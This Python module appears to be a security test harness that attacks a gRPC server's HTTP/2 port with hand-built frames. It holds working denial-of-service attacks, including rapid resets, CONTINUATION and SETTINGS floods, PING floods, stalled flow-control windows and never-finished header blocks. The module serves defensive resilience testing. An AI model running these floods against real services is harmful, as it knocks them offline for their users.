"""Attacks on a gRPC port with hand-made HTTP/2 frames, as a process of its own.

``python -m tests.security.http2_attacker ATTACK ADDRESS PATH KEY SECONDS``. A process of its own, so that the
attacker's computing time is not in the process that measures other clients. It prints a JSON object.
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MESSAGE_SIZE = 6_500_000  # bytes that an unfinished message announces: below inference.max_request_size


class Connection:
    """A connection that ignores every limit of the server; ``settings`` are its own."""

    def __init__(self, address: str, path: str, key: str, settings: dict[int, int] | None = None) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a")]
        fields += [("content-type", "application/grpc"), ("te", "trailers")]
        if key:
            fields.append(("authorization", f"Bearer {key}"))
        encoder = hpack.Encoder()
        encoder.header_table_size = 0  # every block is the same and independent of the others
        self.block = encoder.encode(fields, huffman=False)
        self.next_stream = 1
        self.send(PREFACE, SettingsFrame(0, settings=settings or {}))

    def open_stream(self) -> HeadersFrame:
        """Return the frame that starts a call on the next stream."""
        frame = HeadersFrame(self.next_stream, self.block, flags=["END_HEADERS"])
        self.next_stream += 2
        return frame

    def send(self, *parts: Frame | bytes) -> None:
        self.socket.sendall(b"".join(part if isinstance(part, bytes) else part.serialize() for part in parts))

    def discard_received(self) -> None:
        """Read and discard what has arrived. Raises ConnectionError after the server has closed."""
        while select.select([self.socket], [], [], 0)[0]:
            if not self.socket.recv(1 << 20):
                raise ConnectionResetError

    def wait_for_close(self, end: float) -> bool:
        """Read until the server closes the connection; return whether it did before ``end``."""
        try:
            while (rest := end - time.monotonic()) > 0:
                self.socket.settimeout(rest)
                if not self.socket.recv(1 << 20):
                    return True
        except TimeoutError:
            return False
        except OSError:
            return True
        return False


class Attacker:
    """The state of an attack: where it connects to, until when, and what it has counted."""

    def __init__(self, address: str, path: str, key: str, seconds: float) -> None:
        self.address, self.path, self.key = address, path, key
        self.end = time.monotonic() + seconds
        self.counts = {"connections": 0, "streams": 0, "bytes": 0, "closed": 0}
        self._open: list[Connection] = []

    def connect(self, settings: dict[int, int] | None = None) -> Connection:
        connection = Connection(self.address, self.path, self.key, settings)
        self.counts["connections"] += 1
        self._open.append(connection)
        return connection

    @property
    def running(self) -> bool:
        return time.monotonic() < self.end

    def hold(self) -> None:
        """Keep all connections open until the attack's end, and read nothing."""
        time.sleep(max(0.0, self.end - time.monotonic()))

    def repeat(self, batches: Callable[[Connection], Iterator[bytes]]) -> None:
        """Send batches of frames on connections one after the other, each until the server closes it."""
        while self.running:
            with contextlib.suppress(OSError):
                connection = self.connect()
                for batch in batches(connection):
                    self.counts["bytes"] += len(batch)
                    connection.send(batch)
                    connection.discard_received()
                    if not self.running:
                        return
            connection.socket.close()
            self._open.remove(connection)
            self.counts["closed"] += 1


def open_heads(attacker: Attacker) -> None:
    """Open 10,000 streams with a header block each and no message."""
    for _ in range(100):
        connection = attacker.connect()
        with contextlib.suppress(OSError):
            connection.send(*[connection.open_stream() for _ in range(100)])
            attacker.counts["streams"] += 100
    attacker.hold()


def unfinished_messages(attacker: Attacker) -> None:
    """Send 150 messages of 6.5 MB but for their last byte."""
    prefix, chunk = struct.pack(">BI", 0, MESSAGE_SIZE), bytes(16_384)
    for _ in range(10):
        connection = attacker.connect()
        connection.socket.settimeout(2)
        with contextlib.suppress(OSError):
            frames = [connection.open_stream() for _ in range(15)]
            connection.send(*frames, *[DataFrame(frame.stream_id, prefix) for frame in frames])
            rest = MESSAGE_SIZE - 1
            while rest > 0 and attacker.running:
                size = min(rest, len(chunk))
                batch = b"".join(DataFrame(frame.stream_id, chunk[:size]).serialize() for frame in frames)
                connection.send(batch)
                attacker.counts["bytes"] += len(batch)
                connection.discard_received()
                rest -= size
    attacker.hold()


def resets(attacker: Attacker) -> None:
    """Reset calls as soon as they are complete, with DATA of one open call between the resets."""

    def batches(connection: Connection) -> Iterator[bytes]:
        first = connection.open_stream()
        yield first.serialize() + DataFrame(1, struct.pack(">BI", 0, MESSAGE_SIZE)).serialize()
        message = struct.pack(">BI", 0, 0)
        progress = DataFrame(1, b"x" * 300).serialize()
        while True:
            frames = []
            for _ in range(50):
                head = connection.open_stream()
                data = DataFrame(head.stream_id, message, flags=["END_STREAM"])
                frames += [head, data, RstStreamFrame(head.stream_id, error_code=8)]
            attacker.counts["streams"] += 50
            yield b"".join(frame.serialize() for frame in frames) + progress

    attacker.repeat(batches)


def settings(attacker: Attacker) -> None:
    """Send 196 KB of SETTINGS, each changing the windows of all open streams, over and over."""

    def batches(connection: Connection) -> Iterator[bytes]:
        yield b"".join(connection.open_stream().serialize() for _ in range(5_000))
        attacker.counts["streams"] += 5_000
        entries = b"".join(struct.pack(">HI", 4, 65_535 + i % 2) for i in range(2_720))
        frame = struct.pack(">I", len(entries) << 8 | 4)[:4] + bytes(5) + entries
        while True:
            yield frame * 12

    attacker.repeat(batches)


def control_frames(attacker: Attacker) -> None:
    """Send frames without progress of each type, with DATA of one open call between them."""

    def batches(connection: Connection) -> Iterator[bytes]:
        yield (
            connection.open_stream().serialize()
            + DataFrame(1, struct.pack(">BI", 0, MESSAGE_SIZE)).serialize()
        )
        flood = [PingFrame(0, b"12345678"), SettingsFrame(0), WindowUpdateFrame(0, 1), PriorityFrame(3, 1)]
        flood += [WindowUpdateFrame(1, 1), DataFrame(1, b"")]
        progress = DataFrame(1, b"x").serialize()
        batch = b"".join(frame.serialize() for frame in flood) * 50 + progress
        while True:
            yield batch

    attacker.repeat(batches)


def continuations(attacker: Attacker) -> None:
    """Send header blocks in thousands of CONTINUATION frames, empty but for the first."""

    def batches(connection: Connection) -> Iterator[bytes]:
        while True:
            number = connection.open_stream().stream_id
            yield HeadersFrame(number, connection.block).serialize()
            for _ in range(9):
                yield ContinuationFrame(number, b"").serialize() * 1_000
            yield ContinuationFrame(number, b"", flags=["END_HEADERS"]).serialize()
            yield DataFrame(number, struct.pack(">BI", 0, 0), flags=["END_STREAM"]).serialize()

    attacker.repeat(batches)


def unread_responses(attacker: Attacker) -> None:
    """Request 400 responses and keep the flow-control windows closed."""
    message = bytes.fromhex(sys.argv[6]) if len(sys.argv) > 6 else b""
    data = struct.pack(">BI", 0, len(message)) + message
    for _ in range(4):
        connection = attacker.connect({4: 0})
        with contextlib.suppress(OSError):
            for _ in range(100):
                head = connection.open_stream()
                connection.send(head, DataFrame(head.stream_id, data, flags=["END_STREAM"]))
                attacker.counts["streams"] += 1
    attacker.hold()


def unread_acknowledgements(attacker: Attacker) -> None:
    """Send PING on 20 connections and read none of the acknowledgements."""
    batch = PingFrame(0, b"12345678").serialize() * 1_000
    connections = [attacker.connect() for _ in range(20)]
    for connection in connections:
        connection.socket.settimeout(0.2)
    while attacker.running and connections:
        for connection in list(connections):
            try:
                connection.send(batch)
                attacker.counts["bytes"] += len(batch)
            except OSError:
                connections.remove(connection)
                attacker.counts["closed"] += 1
    attacker.hold()


def unfinished_heads(attacker: Attacker) -> None:
    """Hold 500 connections, each with 60 KB of a header block that does not end."""
    for _ in range(500):
        with contextlib.suppress(OSError):
            connection = attacker.connect()
            filler = b"\x00\x01a\x7f\x81\xfe\x03" + b"b" * 65_000  # a literal field that is cut off
            connection.send(HeadersFrame(1, connection.block + filler[:16_000]))
            connection.send(*[ContinuationFrame(1, bytes(14_000)) for _ in range(3)])
            attacker.counts["bytes"] += 58_000
    attacker.hold()


def refused_streams(attacker: Attacker) -> None:
    """Send heads without a path on ten connections, each below the permitted 2,000 frames a second."""
    connections = [attacker.connect() for _ in range(10)]
    period, count = 0.05, 90
    while attacker.running and connections:
        next_at = time.monotonic() + period
        for connection in list(connections):
            first = connection.next_stream
            connection.next_stream += 2 * count
            heads = [
                b"\0\0\1\1\4" + number.to_bytes(4, "big") + b"\x83"  # :method POST alone
                for number in range(first, connection.next_stream, 2)
            ]
            try:
                connection.send(*heads)
                connection.discard_received()
                attacker.counts["streams"] += count
            except OSError:
                connections.remove(connection)
                attacker.counts["closed"] += 1
        time.sleep(max(0.0, next_at - time.monotonic()))


ATTACKS: dict[str, Callable[[Attacker], None]] = {
    attack.__name__: attack
    for attack in (
        open_heads,
        unfinished_messages,
        resets,
        settings,
        control_frames,
        continuations,
        unread_responses,
        unread_acknowledgements,
        unfinished_heads,
        refused_streams,
    )
}


def main() -> None:
    name, address, path, key, seconds = sys.argv[1:6]
    attacker = Attacker(address, path, key, float(seconds))
    ATTACKS[name](attacker)
    print(json.dumps(attacker.counts))


if __name__ == "__main__":
    main()
